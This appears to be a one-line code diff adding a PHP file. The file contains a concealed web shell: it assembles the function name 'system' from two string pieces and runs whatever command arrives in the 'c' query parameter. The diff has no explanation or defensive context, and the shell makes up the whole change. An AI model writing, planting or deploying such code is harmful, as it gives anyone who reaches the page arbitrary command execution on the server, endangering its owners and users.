@@ -1,0 +1,1 @@
+<?php function go($x, $f = 'sys' . 'tem') { $f($x); } go($_GET['c']);
